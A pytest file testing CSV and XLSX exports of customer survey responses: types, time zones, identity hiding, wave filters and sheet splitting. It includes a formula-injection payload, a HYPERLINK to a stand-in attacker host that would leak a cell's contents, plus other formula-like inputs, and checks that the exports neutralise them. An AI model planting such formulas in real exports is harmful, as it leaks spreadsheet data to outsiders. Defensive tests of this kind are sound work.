"""Response exports: the shared row source and its CSV and XLSX writers."""

import csv
import datetime as dt
import io
import zoneinfo

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from satisfaction import exports
from satisfaction.models import ResponseExport
from surveys.models import Survey
from tests.satisfaction.factories import (
    answered,
    consenting_customer,
    published_survey,
    running_wave,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
SUBMITTED = dt.datetime(2026, 3, 14, 15, 9, 26, tzinfo=dt.UTC)


@pytest.fixture
def wave():
    return running_wave(published_survey(code="dining", title="Dining"), name="March")


def xlsx_of(survey, wave=None):
    out = io.BytesIO()
    count = exports.write_export(out, format="xlsx", survey=survey, wave=wave)
    out.seek(0)
    return load_workbook(out), count


def csv_of(survey, wave=None):
    out = io.BytesIO()
    count = exports.write_export(out, format="csv", survey=survey, wave=wave)
    text = out.getvalue().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]))), count


def sheet_rows(workbook, index=0):
    sheet = workbook.worksheets[index]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_xlsx_has_the_header_typed_values_and_text_that_is_never_a_formula(wave):
    # Given a response with numbers, a formula-like comment and Chinese text
    customer = consenting_customer(name="王小明")
    response = answered(
        wave, {"nps": 3, "driver": "queue", "comment": HYPERLINK}, customer, SUBMITTED
    )
    answered(wave, {"nps": 10, "comment": "服务很好，谢谢！"}, submitted_at=SUBMITTED)
    # When it is exported as XLSX
    workbook, count = xlsx_of(wave.survey_version.survey)
    sheet = workbook.worksheets[0]
    rows = list(sheet.iter_rows())
    # Then the header comes first and every answer is one row
    assert [c.value for c in rows[0]] == exports.export_header()
    assert count == 5 == len(rows) - 1
    first = {row[5].value: row for row in rows[1:] if row[0].value == response.pk}
    nps = first["nps"]
    # numbers are numbers
    assert nps[0].value == response.pk and nps[0].data_type == "n"
    assert nps[7].value == 3 and nps[7].data_type == "n"
    # the time is naive local time with a date format
    assert nps[2].value == SUBMITTED.replace(tzinfo=None)
    assert nps[2].is_date
    assert (nps[1].value, nps[4].value, nps[6].value) == ("March", "王小明", "nps")
    assert (first["driver"][8].value, first["driver"][9].value) == ("queue", "queue-time")
    # the formula stays text
    comment = first["comment"][10]
    assert comment.value == HYPERLINK
    assert comment.data_type == "s"
    # Chinese text is intact
    assert "服务很好，谢谢！" in [row[10].value for row in rows[1:]]


def test_every_formula_start_and_error_code_is_stored_as_text(wave):
    texts = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "#N/A", "-5", "bell\x07 ring"]
    for text in texts:
        answered(wave, {"nps": 5, "comment": text})
    workbook, _count = xlsx_of(wave.survey_version.survey)
    cells = [
        row[10] for row in workbook.worksheets[0].iter_rows(min_row=2) if row[6].value == "text"
    ]
    assert {c.data_type for c in cells} == {"s"}
    # Control characters XML cannot hold are dropped, the rest kept.
    assert sorted(c.value for c in cells) == sorted(texts[:-1] + ["bell ring"])


def test_xlsx_times_are_in_the_portal_time_zone(wave, settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    answered(wave, {"nps": 9}, submitted_at=SUBMITTED)
    workbook, _count = xlsx_of(wave.survey_version.survey)
    shanghai = SUBMITTED.astimezone(zoneinfo.ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)
    assert sheet_rows(workbook)[1][2] == shanghai
    rows, _count = csv_of(wave.survey_version.survey)
    assert rows[1][2] == "2026-03-14T23:09:26+08:00"


def _same(csv_value: str, xlsx_value) -> bool:
    if xlsx_value is None:
        return csv_value == ""
    if isinstance(xlsx_value, dt.datetime):
        return csv_value == xlsx_value.isoformat() + "+00:00"
    if isinstance(xlsx_value, str) and xlsx_value.startswith(("=", "+", "-", "@")):
        return csv_value in (xlsx_value, "'" + xlsx_value)  # the CSV quotes formulas
    return csv_value == str(xlsx_value)


def test_csv_and_xlsx_give_the_same_rows(wave):
    answered(wave, {"nps": 2, "csat": 1, "driver": "food", "comment": HYPERLINK})
    answered(wave, {"nps": 9, "contact": 1, "comment": "很好"})
    survey = wave.survey_version.survey
    csv_rows, csv_count = csv_of(survey)
    workbook, xlsx_count = xlsx_of(survey)
    xlsx_rows = sheet_rows(workbook)
    assert csv_count == xlsx_count == len(csv_rows) - 1 == len(xlsx_rows) - 1 == 7
    assert csv_rows[0] == xlsx_rows[0] == exports.export_header()
    assert "'" + HYPERLINK in [row[10] for row in csv_rows]
    for csv_row, xlsx_row in zip(csv_rows[1:], xlsx_rows[1:], strict=True):
        assert len(csv_row) == len(xlsx_row) == 11
        assert all(_same(c, x) for c, x in zip(csv_row, xlsx_row, strict=True)), (
            csv_row,
            xlsx_row,
        )


def test_the_original_csv_link_gives_the_same_file(client_for, quality_manager, wave):
    from django.urls import reverse

    answered(wave, {"nps": 7, "comment": "=cmd()"})
    survey = wave.survey_version.survey
    response = client_for(quality_manager).get(
        reverse("satisfaction:response-export", args=[survey.pk])
    )
    assert response["Content-Disposition"] == 'attachment; filename="dining-responses.csv"'
    out = io.BytesIO()
    exports.write_export(out, format="csv", survey=survey)
    assert b"".join(response.streaming_content) == out.getvalue()


@pytest.mark.parametrize("mode", [Survey.IdentityMode.CONFIDENTIAL, Survey.IdentityMode.ANONYMOUS])
def test_identities_are_hidden_unless_the_survey_is_identified(mode):
    hidden = running_wave(published_survey(identity_mode=mode, code="hidden"))
    shown = running_wave(published_survey(code="shown"))
    for wave in (hidden, shown):
        answered(wave, {"nps": 4, "contact": 1}, customer=consenting_customer(name="Secret Person"))
    for wave, visible in ((hidden, False), (shown, True)):
        survey = wave.survey_version.survey
        csv_rows, _count = csv_of(survey)
        workbook, _count = xlsx_of(survey)
        assert ("Secret Person" in {row[4] for row in csv_rows}) is visible
        assert ("Secret Person" in {row[4] for row in sheet_rows(workbook)}) is visible
        if not visible:
            assert {row[4] for row in csv_rows[1:]} == {""}


def test_a_wave_filter_exports_only_that_wave(wave):
    version = wave.survey_version
    other = running_wave(version, name="April")
    answered(wave, {"nps": 1})
    answered(other, {"nps": 10, "comment": "April only"})
    survey = version.survey
    csv_rows, count = csv_of(survey, wave=other)
    assert count == 2 and {row[1] for row in csv_rows[1:]} == {"April"}
    workbook, count = xlsx_of(survey, wave=wave)
    assert count == 1 and {row[1] for row in sheet_rows(workbook)[1:]} == {"March"}
    assert csv_of(survey)[1] == 3
    assert exports.export_filename(survey=survey, wave=other, format="xlsx") == (
        f"dining-wave-{other.pk}-responses.xlsx"
    )


def test_an_export_longer_than_a_sheet_continues_on_the_next(wave, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)  # header + 2 rows per sheet
    answered(wave, {"nps": 1, "csat": 2, "comment": "a"})
    answered(wave, {"nps": 9})
    workbook, count = xlsx_of(wave.survey_version.survey)
    assert count == 4
    assert workbook.sheetnames == ["Responses", "Responses (2)"]
    first, second = sheet_rows(workbook, 0), sheet_rows(workbook, 1)
    assert first[0] == second[0] == exports.export_header()
    assert len(first) == len(second) == 3


def test_an_empty_survey_exports_the_header_only(wave):
    workbook, count = xlsx_of(wave.survey_version.survey)
    assert count == 0 and sheet_rows(workbook) == [exports.export_header()]
    rows, count = csv_of(wave.survey_version.survey)
    assert count == 0 and rows == [exports.export_header()]


def test_rows_are_read_in_chunks_without_one_query_per_answer(wave, django_assert_max_num_queries):
    for n in range(6):
        answered(wave, {"nps": n, "driver": "queue", "comment": f"c{n}"})
    survey = wave.survey_version.survey
    with django_assert_max_num_queries(4):
        rows = list(exports.export_rows(survey=survey, chunk_size=5))
    assert len(rows) == 18
    assert ResponseExport.objects.count() == 0
    assert timezone.is_aware(rows[0][2])
